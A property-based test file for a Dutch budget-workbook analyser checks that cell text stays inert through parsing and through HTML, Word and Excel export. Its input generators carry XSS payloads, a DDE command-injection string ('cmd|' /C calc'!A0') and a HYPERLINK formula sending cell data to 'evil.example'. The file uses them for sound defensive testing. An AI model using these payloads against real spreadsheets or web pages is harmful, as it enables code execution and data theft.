/**
 * Properties the engine and its renderers keep on any input, complementing test/core/properties
 * (plain grids) and test/export/escaping (synthetic layouts): weird numbers, invalid dates and
 * huge texts in parseValue; merged cells and stray header words in detection; random reference
 * lines and indices in mapping; and the whole road from a workbook's text to HTML, Word and a new
 * worksheet, where the author's text must stay text — never markup, a field or a formula.
 */
import fc from "fast-check";
import { JSDOM } from "jsdom";
import JSZip from "jszip";
import { parseA1, parseRange, toA1, toRange } from "../../src/core/address";
import { analyseWorkbook } from "../../src/core/analyse";
import { detectTables } from "../../src/core/detect/detectTables";
import type { IndicatorId } from "../../src/core/findings/types";
import { buildLayout, neutraliseFormula, safeText, type LayoutOptions } from "../../src/core/layout";
import { planMarks } from "../../src/core/marks";
import { ClosestNameFinder } from "../../src/core/mapping/closest";
import { normaliseName } from "../../src/core/mapping/normaliseName";
import { resolveReferences, type IndicatorIndex } from "../../src/core/mapping/resolveReferences";
import type { MappingRow } from "../../src/core/model/readMapping";
import { parseValue } from "../../src/core/values/parseValue";
import type { ParsedValue } from "../../src/core/values/types";
import type { CellData, CellValue, SheetData, WorkbookData } from "../../src/core/workbook";
import { renderDocx, renderHtml, writeLayoutSheet } from "../../src/export";
import { applyMarksToWorkbook } from "../../src/xlsx/applyMarks";
import { readWorkbookBuffer } from "../../src/xlsx/readWorkbook";
import type ExcelJS from "exceljs";
import { INDICATORS, openXlsx, writeIndicatorTable, writeRelationSheet, xlsx } from "./corpus";

const { DOMParser } = new JSDOM("").window;

// ---------------------------------------------------------------------------------------------
// Arbitraries

/** What people (and attackers) put in cells. */
const nastyText = fc.constantFrom(
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "</td></tr></table><h1>kop</h1>",
  '"><svg onload=alert(1)>',
  "<!-- x -->",
  "]]><![CDATA[",
  "&amp; &lt; &#x3C; &#0;",
  "{{7*7}} ${7*7}",
  '=HYPERLINK("http://evil.example/?"&A1;"klik")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "=1+1",
  "\u202eevil\u202c",
  "Tevredenheid 👩‍👩‍👧 🇳🇱",
  "نسبة الرضا",
  "שביעות רצון",
  "a\u0000b\u0007c\u000bd",
  "\ud800 lone \udc00",
  "\ufffe\uffff",
  "\u00a0\u200b\u2060\ufeff",
  "Klanttevredenheid Website.",
  "Maximaal 5 min",
  "80% terugbellen binnen 1 werkdag;"
);
const anyText = fc.oneof(
  nastyText,
  fc.string({ unit: "grapheme", maxLength: 40 }),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ unit: nastyText, maxLength: 4 })
);

const weirdNumber = fc.oneof(
  fc.double(),
  fc.constantFrom(
    0,
    -0,
    NaN,
    Infinity,
    -Infinity,
    Number.MAX_VALUE,
    -Number.MAX_VALUE,
    Number.MIN_VALUE,
    Number.EPSILON,
    Number.MAX_SAFE_INTEGER,
    1e296,
    -1e-300,
    2958465.99999, // 31-12-9999 23:59:59
    60, // Excel's 29-2-1900
    0.5,
    1.5
  )
);

const weirdDate = fc.oneof(
  fc.date(),
  fc.date({ noInvalidDate: true }).map((d) => new Date(d.getTime() % 86_400_000)),
  fc.constantFrom(
    new Date(NaN),
    new Date(8.64e15),
    new Date(-8.64e15),
    new Date(Date.UTC(1899, 11, 30, 0, 2, 17)),
    new Date(Date.UTC(1899, 11, 31, 23, 59, 59, 999)),
    new Date(Date.UTC(1904, 0, 1, 0, 2, 17)),
    new Date(Date.UTC(1903, 11, 31, 12)),
    new Date(Date.UTC(1900, 1, 29))
  )
);

/** Long texts are built, not generated character by character: fast-check would take seconds. */
const longText = fc
  .tuple(
    fc.constantFrom("8,3 ", "Maximaal 5 min ", "x", "😀", "\u00a0", "<b>", "7.459.000"),
    fc.integer({ min: 1_000, max: 100_000 })
  )
  .map(([unit, length]) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length));

const cellValue: fc.Arbitrary<CellValue> = fc.oneof(
  { arbitrary: anyText, weight: 3 },
  { arbitrary: weirdNumber, weight: 3 },
  { arbitrary: weirdDate, weight: 2 },
  {
    arbitrary: fc.record({ error: fc.oneof(fc.constantFrom("#N/A", "#DIV/0!", "#SPILL!", ""), fc.string()) }),
    weight: 1,
  },
  { arbitrary: fc.boolean(), weight: 1 },
  { arbitrary: fc.constant(null), weight: 1 },
  { arbitrary: longText, weight: 1 }
);

const format = fc.oneof(
  fc.constantFrom(
    "General",
    "0",
    "0.0",
    "0%",
    "0.0%",
    "mm:ss",
    "m:ss",
    "h:mm",
    "[h]:mm:ss",
    "[mm]:ss",
    "d-m-yyyy",
    "d-mmm",
    "@",
    "0.00E+00",
    '0.0 "min"',
    "# ?/?",
    "",
    ";;;",
    "[Red]0;-0"
  ),
  fc.string({ maxLength: 12 })
);

const cellData: fc.Arbitrary<CellData> = fc.record(
  {
    value: cellValue,
    text: fc.oneof(fc.constant(""), anyText),
    format,
    merge: fc.constantFrom("A1:C1", "B2:B5", "ZZZ1:A1", "A0", "", "Blad1!A1:B2", "C3:A1", "A1:XFD1048576"),
    formula: fc.constantFrom("=1/0", "=A1", '=HYPERLINK("x")'),
  },
  { requiredKeys: ["value", "text", "format"] }
);

const KINDS = new Set(["quantity", "bound", "range", "missing", "direction", "unparseable"]);
const REASONS = new Set(["text", "error-value", "date", "boolean"]);

/** Every number anywhere in the value is finite. */
function allFinite(value: unknown): boolean {
  if (typeof value === "number") return Number.isFinite(value);
  if (typeof value === "object" && value !== null) return Object.values(value).every(allFinite);
  return true;
}

function checkParsed(v: ParsedValue): void {
  expect(KINDS.has(v.kind)).toBe(true);
  expect(typeof v.raw).toBe("string");
  expect(allFinite(v)).toBe(true);
  if (v.kind === "unparseable") expect(REASONS.has(v.reason)).toBe(true);
  if (v.kind === "range") expect(v.min).toBeLessThanOrEqual(v.max);
}

// ---------------------------------------------------------------------------------------------

describe("parseValue", () => {
  it("gives a typed, finite, repeatable value for any cell, date system and number format", () => {
    fc.assert(
      fc.property(cellData, fc.boolean(), (cell, date1904) => {
        const v = parseValue(cell, { date1904 });
        checkParsed(v);
        expect(parseValue(cell, { date1904 })).toEqual(v);
      }),
      { numRuns: 1_000 }
    );
  });

  it("reads an invalid Date, an error and a boolean as unparseable with their reason, never as a figure", () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.constant<CellValue>(new Date(NaN)), fc.record({ error: fc.string() }), fc.boolean()),
        format,
        (value, fmt) => {
          const v = parseValue({ value, text: "", format: fmt });
          const reason =
            value instanceof Date ? "date" : typeof value === "boolean" ? "boolean" : "error-value";
          expect(v).toMatchObject({ kind: "unparseable", reason });
        }
      )
    );
  });

  it("reads text of only spaces, non-breaking spaces and zero-width characters as an empty cell", () => {
    const invisible = fc.string({
      unit: fc.constantFrom(
        " ",
        "\u00a0",
        "\u2007",
        "\u202f",
        "\u3000",
        "\u200b",
        "\u200c",
        "\u200d",
        "\u2060",
        "\ufeff",
        "\t",
        "\n",
        "\r"
      ),
      minLength: 1,
      maxLength: 20,
    });
    fc.assert(
      fc.property(invisible, (text) => {
        expect(parseValue({ value: text, text, format: "General" })).toMatchObject({
          kind: "missing",
          marker: "",
        });
      })
    );
  });

  it("reads a whole number typed as text ('75) as the number 75", () => {
    fc.assert(
      fc.property(fc.integer({ min: 0, max: 999 }), (n) => {
        const asNumber = parseValue({ value: n, text: String(n), format: "General" });
        const asText = parseValue({ value: String(n), text: String(n), format: "@" });
        expect(asText).toEqual(asNumber);
        expect(asNumber).toMatchObject({ kind: "quantity", amount: n, unit: "number" });
      })
    );
  });

  it("survives 100,000-character texts in well under a second each", () => {
    fc.assert(
      fc.property(longText, (text) => {
        const started = performance.now();
        checkParsed(parseValue({ value: text, text, format: "General" }));
        expect(performance.now() - started).toBeLessThan(500);
      }),
      { numRuns: 20 }
    );
  });
});

// ---------------------------------------------------------------------------------------------
// Grids

const HEADER_WORDS = [
  "Prestatie-indicator(en)",
  "Indicator",
  "Effectindicatoren",
  "Kengetallen",
  "Product/dienst",
  "Servicenorm",
  "Resultaat",
  "Wat willen we bereiken",
  "Toelichting",
  "Toelichting: zie raadsbrief",
  "Behaald\n2023",
  "Behaald",
  "Beoogd 2026",
  "Realisatie 2024",
  "Begroting 2025",
  "2024",
  "R2023",
  "Norm",
  "Streefwaarde",
  "Bron",
  "nr.",
  "* Bron: politie",
  "1) voorlopig cijfer",
];
const gridValue: fc.Arbitrary<CellValue> = fc.oneof(
  { arbitrary: fc.constantFrom(...HEADER_WORDS), weight: 3 },
  { arbitrary: cellValue, weight: 4 },
  {
    arbitrary: fc.constantFrom(
      "8,3",
      "75%",
      "2:17",
      "8 min",
      "Maximaal 5 min",
      "-",
      "*",
      "n.b.",
      "65 tot 70 %"
    ),
    weight: 3,
  }
);

interface GridSpec {
  readonly name: string;
  readonly startRow: number;
  readonly startCol: number;
  readonly values: CellValue[][];
  readonly merges: readonly { top: number; left: number; height: number; width: number }[];
}

const gridSpec: fc.Arbitrary<GridSpec> = fc.record({
  name: fc.oneof(
    fc.constantFrom("Indicatoren", "Relatie", "Blad 1", "'quote'", "Ünïcødé 😀"),
    fc.string({ maxLength: 31 })
  ),
  startRow: fc.integer({ min: 0, max: 40 }),
  startCol: fc.integer({ min: 0, max: 30 }),
  values: fc.array(fc.array(gridValue, { maxLength: 8 }), { maxLength: 14 }),
  merges: fc.array(
    fc.record({
      top: fc.nat(13),
      left: fc.nat(7),
      height: fc.integer({ min: 1, max: 3 }),
      width: fc.integer({ min: 1, max: 4 }),
    }),
    { maxLength: 4 }
  ),
});

/**
 * A sheet as the gateways produce it: ragged rows padded, merges clipped to the grid with every
 * covered cell naming its merge and only the top-left cell holding the value.
 */
function toSheet(spec: GridSpec, index: number): SheetData {
  const height = spec.values.length;
  const width = Math.max(0, ...spec.values.map((r) => r.length));
  const cells: CellData[][] = spec.values.map((row) =>
    Array.from({ length: width }, (_, c) => {
      const value = row[c] ?? null;
      return { value, text: typeof value === "number" ? String(value) : "", format: "General" };
    })
  );
  for (const m of spec.merges) {
    const top = Math.min(m.top, height - 1);
    const left = Math.min(m.left, width - 1);
    if (top < 0 || left < 0) continue;
    const bottom = Math.min(top + m.height - 1, height - 1);
    const right = Math.min(left + m.width - 1, width - 1);
    const merge = toRange(
      spec.startRow + top,
      spec.startCol + left,
      spec.startRow + bottom,
      spec.startCol + right
    );
    for (let r = top; r <= bottom; r++)
      for (let c = left; c <= right; c++) {
        const own = cells[r]![c]!;
        cells[r]![c] =
          r === top && c === left ? { ...own, merge } : { value: null, text: "", format: "General", merge };
      }
  }
  return { name: `${spec.name}#${index}`, startRow: spec.startRow, startCol: spec.startCol, cells };
}

const workbookArb: fc.Arbitrary<WorkbookData> = fc
  .tuple(fc.array(gridSpec, { minLength: 1, maxLength: 3 }), fc.boolean())
  .map(([specs, date1904]) => ({ sheets: specs.map(toSheet), date1904 }));

/** Is an A1 cell inside the sheet's grid? */
function inside(sheet: SheetData, cell: string): boolean {
  const ref = parseA1(cell);
  const width = Math.max(0, ...sheet.cells.map((r) => r.length));
  return (
    ref !== null &&
    ref.row >= sheet.startRow &&
    ref.row < sheet.startRow + sheet.cells.length &&
    ref.col >= sheet.startCol &&
    ref.col < sheet.startCol + width
  );
}

describe("table detection and analysis on random grids", () => {
  it("find tables and findings only inside the grid, with merges and header words anywhere", () => {
    fc.assert(
      fc.property(workbookArb, (wb) => {
        const byName = new Map(wb.sheets.map((s) => [s.name, s]));
        for (const t of detectTables(wb)) {
          const sheet = byName.get(t.table.sheet)!;
          const range = parseRange(t.table.range)!;
          expect(inside(sheet, toA1(range.top, range.left))).toBe(true);
          expect(inside(sheet, toA1(range.bottom, range.right))).toBe(true);
        }
        const analysis = analyseWorkbook(wb);
        for (const f of analysis.findings) {
          if (f.sheet === null || f.cell === null) continue;
          expect(inside(byName.get(f.sheet)!, f.cell)).toBe(true);
        }
        expect(analyseWorkbook(wb).findings).toEqual(analysis.findings);
      }),
      { numRuns: 100 }
    );
  });

  it("never throw on merge addresses that make no sense", () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(cellData, { maxLength: 6 }), { maxLength: 10 }),
        fc.nat(20),
        (cells, start) => {
          const wb: WorkbookData = { sheets: [{ name: "Blad1", startRow: start, startCol: start, cells }] };
          detectTables(wb);
          const a = analyseWorkbook(wb);
          expect(allFinite(a.programme.indicators.flatMap((i) => i.observations.map((o) => o.value)))).toBe(
            true
          );
        }
      ),
      { numRuns: 150 }
    );
  });
});

// ---------------------------------------------------------------------------------------------
// Mapping

const word = fc.stringMatching(/^[A-Za-z][a-z]{2,9}$/);
const latinName = fc.array(word, { minLength: 1, maxLength: 5 }).map((w) => w.join(" "));

function indexOf(names: readonly string[]): IndicatorIndex {
  const entries = names.map((name, i) => ({
    id: `ind-${i}` as IndicatorId,
    key: normaliseName(name) || `rij ${i}`,
    name,
  }));
  const byKey = new Map<string, IndicatorId[]>();
  for (const e of entries) byKey.set(e.key, [...(byKey.get(e.key) ?? []), e.id]);
  return { byKey, entries, closest: new ClosestNameFinder(entries) };
}

const referenceLine = fc.oneof(
  anyText,
  latinName,
  fc
    .tuple(fc.constantFrom("80% ", "Maximaal 5 min ", "norm: ", "• ", "- ", "; "), latinName)
    .map(([a, b]) => a + b),
  fc.array(latinName, { minLength: 2, maxLength: 4 }).map((n) => n.join("/")),
  fc.array(latinName, { minLength: 2, maxLength: 4 }).map((n) => n.join("; ")),
  longText
);

describe("resolveReferences", () => {
  it("answers every line once (a name broken over two lines as one resolved reference), with ids from the index only, for any index and any lines", () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(latinName, anyText), { maxLength: 12 }),
        fc.array(fc.array(referenceLine, { maxLength: 5 }), { maxLength: 4 }),
        (names, rows) => {
          const index = indexOf(names);
          const ids = new Set(index.entries.map((e) => e.id));
          const mappingRows: MappingRow[] = rows.map((lines, r) => ({
            text: `Resultaat ${r}`,
            sheet: "Relatie",
            cell: toA1(r + 1, 0),
            lines,
          }));
          const out = resolveReferences(mappingRows, index);
          out.results.forEach((result, r) => {
            const lines = rows[r]!;
            let k = 0;
            for (const ref of result.references) {
              if (ref.text === lines[k]) k += 1;
              else {
                // Two lines that only resolve together ("Omvang huishoudelijk restafval" / "kg").
                expect(ref.text).toBe(`${lines[k]} ${lines[k + 1]}`);
                expect(ref.match).not.toBe("none");
                k += 2;
              }
            }
            expect(k).toBe(lines.length);
          });
          const none = out.results.flatMap((r) => r.references.filter((ref) => ref.match === "none"));
          expect(out.unresolved).toHaveLength(none.length);
          for (const r of out.results)
            for (const ref of r.references) for (const id of ref.indicatorIds) expect(ids.has(id)).toBe(true);
          for (const a of out.approximate) expect(a.score).toBeGreaterThanOrEqual(0.8);
          for (const id of out.norms.keys()) expect(ids.has(id)).toBe(true);
        }
      ),
      { numRuns: 150 }
    );
  });

  it("resolves a line that repeats an indicator's name, whatever its case, spacing and final period", () => {
    fc.assert(
      fc.property(
        fc.uniqueArray(latinName, { minLength: 1, maxLength: 8, selector: normaliseName }),
        fc.nat(),
        (names, pick) => {
          const index = indexOf(names);
          const i = pick % names.length;
          const line = `  ${names[i]!.toUpperCase().replace(/ /g, "\u00a0 ")}.`;
          const out = resolveReferences(
            [{ text: "R", sheet: "Relatie", cell: toA1(1, 0), lines: [line] }],
            index
          );
          expect(out.results[0]!.references[0]).toMatchObject({ indicatorIds: [`ind-${i}`], match: "exact" });
        }
      )
    );
  });
});

// ---------------------------------------------------------------------------------------------
// From a workbook's texts to HTML, Word and a new worksheet

interface ProgrammeSpec {
  readonly names: string[];
  readonly values: CellValue[][];
  readonly results: [string, string][];
  readonly explanations: [string, string][];
}

/** Value texts short enough for the Word table's columns (wide columns: see the corpus test "twelve year columns"). */
const shortValue = fc.oneof(
  fc.constantFrom<CellValue>("8,3", "75%", "8 min", "-", "*", 7.2, "<b>", "=1+1", "\u202e8"),
  fc.string({ unit: nastyText, maxLength: 1 }).filter((s) => s.length <= 12)
);

function programmeSpec(value: fc.Arbitrary<CellValue>): fc.Arbitrary<ProgrammeSpec> {
  return fc.record({
    names: fc.array(anyText, { minLength: 1, maxLength: 5 }),
    values: fc.array(fc.array(value, { minLength: 4, maxLength: 4 }), { minLength: 5, maxLength: 5 }),
    results: fc.array(fc.tuple(anyText, anyText), { maxLength: 3 }),
    explanations: fc.array(fc.tuple(anyText, anyText), { maxLength: 2 }),
  });
}

const text = (value: CellValue): CellData => ({
  value,
  text: typeof value === "string" ? value : typeof value === "number" ? String(value).replace(".", ",") : "",
  format: "General",
});

/** A programme whose every author's text comes from the generator. */
function programmeWorkbook(p: ProgrammeSpec): WorkbookData {
  const header = ["Prestatie-indicator(en)", "Behaald 2023", "Behaald 2024", "Beoogd 2025", "Beoogd 2026"];
  const indicatorRows = p.names.map((name, r) => [name, ...p.values[r]!]);
  return {
    sheets: [
      {
        name: "Indicatoren",
        startRow: 0,
        startCol: 0,
        cells: [header, ...indicatorRows].map((r) => r.map(text)),
      },
      {
        name: "Relatie",
        startRow: 0,
        startCol: 0,
        cells: [["Resultaat", "Prestatie-indicator(en)"], ...p.results].map((r) => r.map(text)),
      },
      {
        name: "Toelichting",
        startRow: 0,
        startCol: 0,
        cells: [["Indicator", "Toelichting"], ...p.explanations].map((r) => r.map(text)),
      },
    ],
  };
}

const layoutOptions: fc.Arbitrary<LayoutOptions> = fc.record(
  {
    lang: fc.constantFrom("nl" as const, "en" as const),
    references: fc.constantFrom("as-written" as const, "resolved" as const),
    harmonise: fc.boolean(),
    statusColumn: fc.boolean(),
    markResultsWithoutIndicator: fc.boolean(),
    placeholders: fc.boolean(),
  },
  { requiredKeys: [] }
);

const HTML_TAGS = new Set(
  [
    "html",
    "head",
    "meta",
    "title",
    "body",
    "div",
    "table",
    "caption",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "ul",
    "li",
    "em",
    "p",
    "h2",
    "mark",
    "br",
  ].map((t) => t.toUpperCase())
);
const HTML_ATTRIBUTES = new Set(["style", "scope", "colspan", "lang", "charset", "name", "content"]);

/** The author's texts that reach the indicator table: every indicator's name. */
const namesOf = (wb: WorkbookData) => analyseWorkbook(wb).programme.indicators.map((i) => safeText(i.name));

describe("exports of a workbook's texts", () => {
  it("the budget tables of any random grid render as HTML and as Word", async () => {
    // Word gets grids of at most four columns: wider tables with long values hit the column-width
    // defect that the corpus test "a ten-year series" documents.
    const narrow = workbookArb.map((wb) => ({
      ...wb,
      sheets: wb.sheets.map((sheet) => ({ ...sheet, cells: sheet.cells.map((row) => row.slice(0, 4)) })),
    }));
    await fc.assert(
      fc.asyncProperty(narrow, layoutOptions, async (wb, options) => {
        const layout = buildLayout(analyseWorkbook(wb), options);
        expect(renderHtml(layout)).toMatch(/<\/html>\n$/);
        const zip = await JSZip.loadAsync(await renderDocx(layout));
        expect(zip.file("word/document.xml")).not.toBeNull();
      }),
      { numRuns: 30 }
    );
  });

  it("HTML: any analysed workbook renders; every element and attribute is the renderer's own; names are text", () => {
    fc.assert(
      fc.property(programmeSpec(fc.oneof(anyText, shortValue)), layoutOptions, (p, options) => {
        const wb = programmeWorkbook(p);
        const layout = buildLayout(analyseWorkbook(wb), options);
        for (const fragment of [false, true]) {
          const doc = new DOMParser().parseFromString(renderHtml(layout, { fragment }), "text/html");
          for (const el of Array.from(doc.querySelectorAll("*"))) {
            expect(HTML_TAGS.has(el.tagName)).toBe(true);
            for (const a of Array.from(el.attributes)) expect(HTML_ATTRIBUTES.has(a.name)).toBe(true);
          }
          const rowHeaders = Array.from(doc.querySelectorAll('th[scope="row"]')).map((th) => th.textContent);
          for (const name of namesOf(wb)) expect(rowHeaders).toContain(name);
        }
      }),
      { numRuns: 50 }
    );
  });

  it("Word: any analysed workbook renders well-formed XML with every name as text, and no field codes", async () => {
    await fc.assert(
      fc.asyncProperty(programmeSpec(shortValue), layoutOptions, async (p, options) => {
        const wb = programmeWorkbook(p);
        const bytes = await renderDocx(buildLayout(analyseWorkbook(wb), options));
        const zip = await JSZip.loadAsync(bytes);
        for (const part of Object.keys(zip.files).filter((f) => f.endsWith(".xml") || f.endsWith(".rels"))) {
          const xml = await zip.file(part)!.async("string");
          expect(
            new DOMParser().parseFromString(xml, "application/xml").getElementsByTagName("parsererror")
          ).toHaveLength(0);
          // Fields (DDE, INCLUDETEXT, HYPERLINK) would run or fetch when Word opens the document.
          expect(xml).not.toMatch(/<w:(?:fldSimple|instrText|fldChar)\b/);
          expect(xml).not.toMatch(/TargetMode="External"/);
        }
        const doc = new DOMParser().parseFromString(
          await zip.file("word/document.xml")!.async("string"),
          "application/xml"
        );
        const paragraphs = Array.from(doc.getElementsByTagName("w:p")).map((para) =>
          Array.from(para.getElementsByTagName("w:t"))
            .map((t) => t.textContent)
            .join("")
        );
        for (const name of namesOf(wb)) if (name !== "") expect(paragraphs).toContain(name);
      }),
      { numRuns: 15 }
    );
  });
});

// ---------------------------------------------------------------------------------------------
// Formula injection

describe("formula injection", () => {
  const formulaLike = fc.oneof(
    fc
      .tuple(fc.constantFrom("=", "+", "-", "@", "\t", "\r"), fc.string({ unit: "binary", maxLength: 20 }))
      .map(([a, b]) => a + b),
    fc.string({ unit: "binary", maxLength: 20 })
  );

  it("neutraliseFormula leaves no formula start in any Unicode text, keeps the text, and is idempotent", () => {
    fc.assert(
      fc.property(formulaLike, (input) => {
        const out = neutraliseFormula(input);
        expect(out === input || out === `'${input}`).toBe(true);
        expect(neutraliseFormula(out)).toBe(out);
        if (/^[=+\-@\t\r]/.test(out)) expect(out).toMatch(/^(?:[+-]?\d+(?:[.,]\d+)*%?|[-–—]+)$/);
      }),
      { numRuns: 2_000 }
    );
  });

  it("writeLayoutSheet and applyMarksToWorkbook store the author's '=…', '+…', '-…' and '@…' as text, never as a formula", async () => {
    const starts = fc
      .tuple(
        fc.constantFrom("=", "+", "-", "@", "\t=", '=HYPERLINK("http://x";'),
        fc.constantFrom("1+1", "A1", "SUM(A1:A3)", "cmd|' /C calc'!A0", "")
      )
      .map(([a, b]) => a + b);
    await fc.assert(
      fc.asyncProperty(
        fc.array(starts, { minLength: 3, maxLength: 3 }),
        fc.array(starts, { minLength: 4, maxLength: 4 }),
        async (names, values) => {
          const wb = await openXlsx(await programmeXlsx(names, values));
          const before = formulaCells(wb);
          const analysis = analyseWorkbook(
            await readWorkbookBuffer(new Uint8Array(await wb.xlsx.writeBuffer()))
          );
          writeLayoutSheet(wb, buildLayout(analysis, { statusColumn: true }));
          applyMarksToWorkbook(wb, planMarks(analysis, { showMet: true }));
          const saved = new Uint8Array(await wb.xlsx.writeBuffer());
          const after = await openXlsx(saved);
          expect(formulaCells(after)).toEqual(before);
          const zip = await JSZip.loadAsync(saved);
          const layoutSheet = await zip.file("xl/worksheets/sheet3.xml")!.async("string");
          expect(layoutSheet).not.toContain("<f>");
          const shown = after
            .getWorksheet("Begrotingstabellen")!
            .getColumn(1)
            .values.filter((v) => typeof v === "string");
          for (const i of analysis.programme.indicators) expect(shown).toContain(safeText(i.name));
        }
      ),
      { numRuns: 8 }
    );
  });
});

/** Every cell with a formula, as "Sheet!A1 =formula". */
function formulaCells(wb: ExcelJS.Workbook): string[] {
  const out: string[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        if (cell.type === 6 /* ValueType.Formula */ || cell.formula)
          out.push(`${ws.name}!${cell.address} =${cell.formula}`);
      })
    )
  );
  return out;
}

/** The programme with the given names and 2023–2026 values of its first indicator, and one real formula. */
function programmeXlsx(names: readonly string[], values: readonly string[]): Promise<Uint8Array> {
  return xlsx((wb) => {
    const ws = wb.addWorksheet("Indicatoren");
    writeIndicatorTable(ws, {
      indicators: INDICATORS.map((spec, i) => ({
        name: names[i]!,
        values: i === 0 ? (values as unknown as typeof spec.values) : spec.values,
      })),
    });
    ws.getCell("G4").value = { formula: "B5*100", result: 82 };
    writeRelationSheet(wb, [[names[0]!, names.join("\n")]]);
  });
}
